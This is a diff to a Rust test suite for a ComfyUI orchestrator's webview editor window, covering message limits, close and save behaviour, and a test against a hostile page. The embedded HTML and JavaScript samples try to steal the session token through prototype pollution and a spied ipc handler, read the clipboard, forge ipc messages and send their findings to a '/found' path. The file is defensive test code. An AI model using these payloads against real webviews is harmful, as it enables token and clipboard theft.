@@ -5,7 +5,7 @@ use comfyui_orchestrator::editor::message::{
 };
 use comfyui_orchestrator::editor::origin::PageOrigin;
 use comfyui_orchestrator::editor::page::{
-    Gate, MAX_MESSAGE_BYTES, MAX_MESSAGES, PageMessage, PageRefusal,
+    Gate, MAX_BYTES, MAX_MESSAGE_BYTES, MAX_MESSAGES, MAX_SAVES, PageMessage, PageRefusal,
 };
 use serde_json::value::RawValue;
 use std::io::BufReader;
@@ -117,6 +117,39 @@ fn a_flood_is_cut_off_and_forgiven_after_a_while() {
         .count();
     assert_eq!(admitted, MAX_MESSAGES);
     assert!(gate.admit("http://10.0.0.7:8188/", loaded, 20_000).is_ok());
+}
+
+#[test]
+fn what_a_page_sends_is_bounded_in_bytes_and_in_saves() {
+    let page = "http://10.0.0.7:8188/";
+    let mut gate = Gate::new(origin(), "secret".to_owned());
+    let draft = format!(
+        r#"{{"token":"secret","message":{{"changed":{{"draft":"{}"}}}}}}"#,
+        "x".repeat(40 << 20)
+    );
+    let admitted = (0..20)
+        .filter(|_| gate.admit(page, &draft, 5).is_ok())
+        .count();
+    assert!(
+        admitted * draft.len() < MAX_BYTES + draft.len(),
+        "{admitted}"
+    );
+    assert!(matches!(
+        gate.admit(page, &draft, 6),
+        Err(PageRefusal::Flood)
+    ));
+    // Slowly, as a person would save at most, and as a page would.
+    let save = r#"{"token":"secret","message":{"save":{"target":"new_workflow","workflow":{},"prompt":{}}}}"#;
+    let taken = (0..30)
+        .filter(|second| gate.admit(page, save, 100_000 + second * 1_000).is_ok())
+        .count();
+    assert_eq!(taken, MAX_SAVES);
+    let loaded = r#"{"token":"secret","message":"loaded"}"#;
+    assert!(
+        gate.admit(page, loaded, 131_000).is_ok(),
+        "others are heard"
+    );
+    assert!(gate.admit(page, save, 200_000).is_ok());
 }
 
 #[test]
@@ -253,10 +286,10 @@ fn a_system_without_the_web_view_is_told_what_to_install() {
 }
 
 #[cfg(all(feature = "editor", target_os = "linux"))]
-mod in_a_window {
+pub mod in_a_window {
     use comfyui_orchestrator::editor::message::{
-        Appearance, DraftFate, EditorGraph, FromWindow, OpenWindow, SaveAnswer, SaveTarget,
-        ToWindow,
+        Appearance, CloseMode, DraftFate, EditorGraph, FromWindow, OpenWindow, SaveAnswer,
+        SaveTarget, ToWindow,
     };
     use comfyui_orchestrator::editor::process::{EditorEvent, EditorProcess};
     use serde_json::value::{RawValue, to_raw_value};
@@ -287,9 +320,28 @@ mod in_a_window {
     /// A page that tries whatever it can think of. `OTHER` stands for a server of another origin.
     const HOSTILE: &str = r#"<!doctype html><body>
         <iframe src="http://OTHER/frame"></iframe>
+        <iframe src="/own_frame"></iframe>
+        <textarea></textarea>
         <iframe srcdoc="<script>window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({token:'guess',message:'loaded'}))</script>"></iframe>
         <script>
+        // Whatever it finds is told to a path of its own server.
+        const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
+        // The bar's own script is among the page's: what it uses of them could be replaced.
+        const long = /[0-9a-f]{32}/;
+        Object.prototype.toJSON = function () { if (long.test(this?.token)) tell(this.token); return {...this, toJSON: undefined}; };
+        const real = window.webkit.messageHandlers.ipc;
+        const spy = {messageHandlers: {ipc: {postMessage: (text) => { if (long.test(text)) tell(text); real.postMessage(text); }}}};
+        try { Object.defineProperty(window, "webkit", {value: spy}); } catch (error) { /* Not to be had. */ }
+        const names = Reflect.ownKeys(window).map((key) => key.description ?? String(key));
+        tell(names.filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
         const tries = [
+            () => tell(/[0-9a-f]{32}/.exec(String(window["comfyui-orchestrator"]))?.[0]),
+            () => { window["comfyui-orchestrator"]({type: "close"}); window["comfyui-orchestrator"]({type: "save_answer", state: "kept"}); },
+            () => { window["comfyui-orchestrator"] = () => tell("replaced"); delete window["comfyui-orchestrator"]; },
+            () => { document.querySelector("textarea").focus(); if (document.execCommand("paste")) tell("it may paste"); },
+            () => navigator.clipboard?.readText().then(tell, () => {}),
+            () => window.ipc.postMessage(JSON.stringify({message: {changed: {draft: null}}})),
+            () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {may_close: {draft: "discard"}}})),
             () => window.ipc.postMessage(JSON.stringify({message: "loaded"})),
             () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {save: {target: "node", workflow: {evil: 1}, prompt: {}}}})),
             () => window.ipc.postMessage("{\"token\":"),
@@ -311,14 +363,24 @@ mod in_a_window {
         try { top.location.href = "http://OTHER/stolen"; } catch (error) {}
     </script>"#;
 
+    /// A frame of the page's own origin, as a file that somebody put on the server would be.
+    const OWN_FRAME: &str = r#"<!doctype html><script>
+        const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
+        const names = (of) => Reflect.ownKeys(of).map((key) => key.description ?? String(key));
+        tell([...names(window), ...names(top)].filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
+        const say = (text) => window.webkit?.messageHandlers?.ipc?.postMessage(text);
+        say(JSON.stringify({token: "", message: {save: {target: "new_workflow", workflow: {evil: 3}, prompt: {}}}}));
+        try { top["comfyui-orchestrator"]({type: "load", form: "ui", graph: {}, name: "evil"}); } catch (error) {}
+    </script>"#;
+
     /// A display for the test alone.
-    struct Display {
+    pub struct Display {
         server: Child,
         name: String,
     }
 
     impl Display {
-        fn start() -> Option<Self> {
+        pub fn start() -> Option<Self> {
             let mut server = Command::new("Xvfb")
                 .args(["-displayfd", "1", "-screen", "0", "1280x900x24"])
                 .stdout(Stdio::piped())
@@ -397,7 +459,8 @@ mod in_a_window {
         }
     }
 
-    fn start(display: &Display, folder: &Path, order: OpenWindow) -> EditorProcess {
+    /// The window's program on this display.
+    pub fn window_program(display: &Display, folder: &Path) -> std::path::PathBuf {
         // The window takes its display from the environment of the program that starts it, as in the app: a small shell
         // script gives it this test's own.
         let script = folder.join("window.sh");
@@ -412,7 +475,12 @@ mod in_a_window {
         .unwrap();
         std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
             .unwrap();
-        EditorProcess::start(&script, order, || {}).unwrap()
+        script
+    }
+
+    fn start(display: &Display, folder: &Path, order: OpenWindow) -> EditorProcess {
+        let program = window_program(display, folder);
+        EditorProcess::start(&program, order, || {}).unwrap()
     }
 
     /// Waits for something a window says.
@@ -483,7 +551,7 @@ mod in_a_window {
         })
         .await;
         assert!(unchanged.is_some(), "what was kept is no change any more");
-        window.send(ToWindow::Close).unwrap();
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
         let fate = wait(&window, PATIENCE, |event| match event {
             EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
             _ => None,
@@ -749,7 +817,29 @@ mod in_a_window {
         ])
         .await;
         let hostile = HOSTILE.replace("OTHER", &foreign.to_string());
-        let address = serve(vec![("/", hostile)]).await;
+        let found = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let router = {
+            use axum::response::Html;
+            use axum::routing::get;
+            let found = found.clone();
+            axum::Router::new()
+                .route("/", get(|| async { Html(hostile) }))
+                .route("/own_frame", get(|| async { Html(OWN_FRAME) }))
+                .route(
+                    "/found",
+                    get(|uri: axum::http::Uri| async move {
+                        found.lock().unwrap().push(uri.to_string());
+                    }),
+                )
+                .route(
+                    "/download.bin",
+                    get(|| async {
+                        let kind = [("content-type", "application/octet-stream")];
+                        (kind, vec![0_u8; 64])
+                    }),
+                )
+        };
+        let address = serve_routes(router).await;
         let window = start(&display, folder.path(), order(address, folder.path(), None));
         let mut notices = Vec::new();
         let wanted = [
@@ -778,14 +868,341 @@ mod in_a_window {
         assert_eq!(over, Some(Ok(())), "{notices:#?}");
         // Neither the frame, nor the windows, nor the ways out were loaded, whoever stopped them.
         assert_eq!(foreign_hits.load(Ordering::Relaxed), 0);
+        // The token is nowhere, the clipboard is not read, and the bar's channel cannot be taken.
+        let found = found.lock().unwrap().clone();
+        assert!(found.is_empty(), "{found:?}");
         // It cannot keep the window open either.
-        window.send(ToWindow::Close).unwrap();
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
         let fate = wait(&window, PATIENCE, |event| match event {
             EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
             _ => None,
         })
         .await;
         assert!(fate.is_some(), "the window closes without the page's leave");
+    }
+
+    /// A page with tabs that does what `/next` says, one deed after the other.
+    const OBEDIENT: &str = r#"<!doctype html><body><script>
+        let graph = {nodes: [], extra: {ds: {scale: 1}}}, next_id = 100, fails = false;
+        const store = {
+            activeWorkflow: null, openWorkflows: [],
+            closeWorkflow: async (tab) => { store.openWorkflows = store.openWorkflows.filter((open) => open !== tab); },
+            getWorkflowByPath: () => null,
+        };
+        const go = (tab, state) => {
+            if (store.activeWorkflow) store.activeWorkflow.activeState = graph;
+            graph = structuredClone(state);
+            store.activeWorkflow = tab;
+            fetch("/tabs?" + store.openWorkflows.map((open) => open.key).join("|"));
+        };
+        window.app = {
+            graph: {serialize: () => graph},
+            extensionManager: {workflow: store},
+            loadGraphData: async (loaded, clean, view, tab) => {
+                if (typeof tab === "string") {
+                    let name = tab;
+                    for (let i = 2; store.openWorkflows.some((open) => open.key === `${name}.json`); i++) name = `${tab} (${i})`;
+                    tab = {key: `${name}.json`, path: `workflows/${name}.json`, isTemporary: true};
+                    store.openWorkflows.push(tab);
+                }
+                go(tab, loaded);
+            },
+            loadApiJson: async (loaded, name) => window.app.loadGraphData({api: loaded}, true, true, name),
+            graphToPrompt: async () => {
+                fetch("/tried");
+                if (fails) throw new Error("no such node");
+                return {workflow: graph, output: {"1": {class_type: "A", inputs: {}}}};
+            },
+        };
+        window.app.loadGraphData({nodes: [{id: 55}]}, true, true, "Old");
+        const deeds = {
+            change: () => { graph.nodes.push({id: next_id++, type: "A"}); window.dispatchEvent(new Event("pointerup")); },
+            save: () => window.dispatchEvent(new KeyboardEvent("keydown", {key: "s", ctrlKey: true})),
+            fail: () => { fails = true; },
+            other_tab: () => { go(store.openWorkflows[0], {nodes: [{id: 56}]}); window.dispatchEvent(new Event("pointerup")); },
+            reload: () => location.reload(),
+        };
+        setInterval(async () => deeds[await (await fetch("/next")).text()]?.(), 150);
+    </script></body>"#;
+
+    /// What a page is to do, and what it did.
+    #[derive(Clone, Default)]
+    struct Puppet {
+        deeds: Arc<std::sync::Mutex<std::collections::VecDeque<&'static str>>>,
+        tried: Arc<AtomicUsize>,
+        tabs: Arc<std::sync::Mutex<String>>,
+    }
+
+    impl Puppet {
+        fn to_do(&self, deed: &'static str) {
+            self.deeds.lock().unwrap().push_back(deed);
+        }
+
+        async fn serve(&self) -> SocketAddr {
+            use axum::http::Uri;
+            use axum::response::Html;
+            use axum::routing::get;
+            let (deeds, tried, tabs) = (self.deeds.clone(), self.tried.clone(), self.tabs.clone());
+            let next = move || async move { deeds.lock().unwrap().pop_front().unwrap_or("") };
+            let count = move || async move {
+                tried.fetch_add(1, Ordering::Relaxed);
+            };
+            let note = move |uri: Uri| async move {
+                *tabs.lock().unwrap() = uri.query().unwrap_or_default().replace("%20", " ");
+            };
+            let router = axum::Router::new()
+                .route("/", get(|| async { Html(OBEDIENT) }))
+                .route("/next", get(next))
+                .route("/tried", get(count))
+                .route("/tabs", get(note));
+            serve_routes(router).await
+        }
+    }
+
+    /// Presses a key in the window as a person does.
+    fn press(display: &Display, key: &str) -> bool {
+        let pressed = Command::new("xdotool")
+            .env("DISPLAY", &display.name)
+            .args([
+                "search",
+                "--name",
+                "Portrait, Workstation",
+                "windowfocus",
+                "--sync",
+                "key",
+                key,
+            ])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status();
+        pressed.is_ok_and(|status| status.success())
+    }
+
+    fn loaded(event: &EditorEvent) -> Option<()> {
+        matches!(event, EditorEvent::Said(FromWindow::Loaded)).then_some(())
+    }
+
+    fn draft_of(event: &EditorEvent) -> Option<String> {
+        match event {
+            EditorEvent::Said(FromWindow::Changed { draft: Some(draft) }) => {
+                Some(draft.get().to_owned())
+            }
+            _ => None,
+        }
+    }
+
+    fn fate_of(event: &EditorEvent) -> Option<DraftFate> {
+        match event {
+            EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
+            _ => None,
+        }
+    }
+
+    /// A window on a page that does what it is told, when the workflow is shown.
+    async fn obedient(
+        draft: Option<Box<RawValue>>,
+    ) -> Option<(Display, tempfile::TempDir, Puppet, EditorProcess)> {
+        let Some(display) = Display::start() else {
+            println!("skipped: there is no Xvfb here");
+            return None;
+        };
+        let folder = tempfile::tempdir().unwrap();
+        let puppet = Puppet::default();
+        let address = puppet.serve().await;
+        let order = order(address, folder.path(), draft);
+        let window = start(&display, folder.path(), order);
+        wait(&window, PATIENCE, loaded).await.expect("it is shown");
+        Some((display, folder, puppet, window))
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_save_that_fails_on_closing_keeps_the_window_and_the_changes() {
+        let Some((display, _folder, puppet, window)) = obedient(None).await else {
+            return;
+        };
+        puppet.to_do("fail");
+        puppet.to_do("change");
+        let draft = wait(&window, PATIENCE, draft_of).await;
+        assert!(draft.unwrap().contains("\"id\":100"));
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        // "Save to node" has the focus.
+        let begin = Instant::now();
+        while puppet.tried.load(Ordering::Relaxed) == 0 {
+            if !press(&display, "Return") {
+                println!("skipped: there is no xdotool here");
+                return;
+            }
+            assert!(begin.elapsed() < PATIENCE, "the question is answered");
+            tokio::time::sleep(Duration::from_millis(700)).await;
+        }
+        let said = wait(&window, Duration::from_secs(4), |event| match event {
+            EditorEvent::Said(FromWindow::Geometry(_)) => None,
+            other => Some(format!("{other:?}")),
+        });
+        assert_eq!(said.await, None, "it stays, and nothing is saved");
+        // Asked again, and once more instead of an answer: nobody said that the changes may go.
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        assert_eq!(
+            wait(&window, PATIENCE, fate_of).await,
+            Some(DraftFate::Keep)
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn what_is_saved_on_closing_waits_for_the_answer_of_the_app() {
+        let Some((display, _folder, puppet, window)) = obedient(None).await else {
+            return;
+        };
+        puppet.to_do("change");
+        wait(&window, PATIENCE, draft_of).await.expect("a change");
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        if !press(&display, "Return") {
+            println!("skipped: there is no xdotool here");
+            return;
+        }
+        let saved = wait(&window, PATIENCE, |event| match event {
+            EditorEvent::Said(FromWindow::Save(saved)) => Some(Ok(saved.target)),
+            other => fate_of(other).map(Err),
+        })
+        .await;
+        assert_eq!(saved, Some(Ok(SaveTarget::Node)));
+        let early = wait(&window, Duration::from_secs(2), fate_of).await;
+        assert_eq!(early, None, "the app has not answered yet");
+        window
+            .send(ToWindow::SaveAnswer(SaveAnswer::InReview))
+            .unwrap();
+        assert_eq!(
+            wait(&window, PATIENCE, fate_of).await,
+            Some(DraftFate::Keep)
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_draft_that_is_offered_stays_when_nobody_answers_and_when_the_page_is_loaded_anew() {
+        let draft = RawValue::from_string(r#"{"nodes":[{"id":3}]}"#.to_owned()).unwrap();
+        let Some((_display, _folder, puppet, window)) = obedient(Some(draft)).await else {
+            return;
+        };
+        // Neither a change behind the question nor loading the page again is an answer.
+        puppet.to_do("change");
+        puppet.to_do("reload");
+        let again = wait(&window, PATIENCE, |event| match event {
+            EditorEvent::Said(FromWindow::Loaded) => Some(Ok(())),
+            EditorEvent::Said(FromWindow::Changed { draft }) => Some(Err(format!("{draft:?}"))),
+            _ => None,
+        })
+        .await;
+        assert_eq!(again, Some(Ok(())));
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        assert_eq!(
+            wait(&window, PATIENCE, fate_of).await,
+            Some(DraftFate::Keep)
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn the_end_of_the_page_s_process_is_told_and_the_page_comes_back_with_the_draft() {
+        let Some((_display, _folder, puppet, window)) = obedient(None).await else {
+            return;
+        };
+        puppet.to_do("change");
+        wait(&window, PATIENCE, draft_of).await.expect("a change");
+        let of_page = |entry: &std::fs::DirEntry| {
+            let stat = std::fs::read_to_string(entry.path().join("stat")).ok()?;
+            let (name, rest) = stat.split_once('(')?.1.rsplit_once(')')?;
+            let parent = rest.split_whitespace().nth(1)?;
+            (name.starts_with("WebKitWeb") && parent == window.process_id().to_string())
+                .then(|| entry.file_name().to_string_lossy().into_owned())
+        };
+        let page_id = std::fs::read_dir("/proc")
+            .unwrap()
+            .flatten()
+            .find_map(|entry| of_page(&entry))
+            .expect("the page has a process of its own");
+        let killed = Command::new("kill").args(["-9", &page_id]).status();
+        assert!(killed.unwrap().success());
+        let told = wait(&window, PATIENCE, |event| match event {
+            EditorEvent::Said(FromWindow::PageGone) => Some(()),
+            _ => None,
+        });
+        told.await.expect("it is told");
+        wait(&window, PATIENCE, loaded)
+            .await
+            .expect("it comes back");
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        assert_eq!(
+            wait(&window, PATIENCE, fate_of).await,
+            Some(DraftFate::Keep),
+            "the draft is offered, and nobody answered"
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_window_belongs_to_the_tab_of_its_node_and_follows_the_node() {
+        let Some((_display, _folder, puppet, window)) = obedient(None).await else {
+            return;
+        };
+        // The node gets another workflow in the app, and nothing was changed here.
+        let other = RawValue::from_string(r#"{"nodes":[{"id":9}]}"#.to_owned()).unwrap();
+        window
+            .send(ToWindow::NodeWorkflow(EditorGraph::Ui(other)))
+            .unwrap();
+        tokio::time::sleep(Duration::from_secs(3)).await;
+        puppet.to_do("change");
+        let draft = wait(&window, PATIENCE, draft_of).await.expect("a change");
+        assert!(
+            draft.contains("\"id\":9") && draft.contains("\"id\":100"),
+            "{draft}"
+        );
+        assert_eq!(*puppet.tabs.lock().unwrap(), "Old.json|Portrait.json");
+        // Looking at another tab is no change of the node's workflow, and saving it is refused.
+        puppet.to_do("other_tab");
+        puppet.to_do("save");
+        let said = wait(&window, Duration::from_secs(4), |event| match event {
+            EditorEvent::Said(FromWindow::Save(_) | FromWindow::Changed { .. }) => {
+                Some(format!("{event:?}"))
+            }
+            _ => None,
+        });
+        assert_eq!(said.await, None);
+        assert_eq!(puppet.tried.load(Ordering::Relaxed), 0);
+        // Back to what it was before by an undo in the app: the page knows that it differs.
+        let first = r#"{"nodes":[{"id":1}],"extra":{"ds":{"scale":2}}}"#;
+        let first = RawValue::from_string(first.to_owned()).unwrap();
+        window
+            .send(ToWindow::NodeWorkflow(EditorGraph::Ui(first)))
+            .unwrap();
+        puppet.to_do("reload");
+        wait(&window, PATIENCE, loaded).await.expect("it is shown");
+        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
+        assert_eq!(
+            wait(&window, PATIENCE, fate_of).await,
+            Some(DraftFate::Keep)
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_backend_without_the_page_says_so_at_once() {
+        let Some(display) = Display::start() else {
+            println!("skipped: there is no Xvfb here");
+            return;
+        };
+        let folder = tempfile::tempdir().unwrap();
+        let address = serve(Vec::new()).await;
+        let window = start(&display, folder.path(), order(address, folder.path(), None));
+        let told = wait(&window, PATIENCE, |event| match event {
+            EditorEvent::Said(FromWindow::NotShown { text }) => Some(text.clone()),
+            _ => None,
+        })
+        .await
+        .expect("it says that it shows nothing");
+        assert!(
+            told.contains("has no editor") && told.contains("404"),
+            "{told}"
+        );
     }
 
     #[tokio::test(flavor = "multi_thread")]
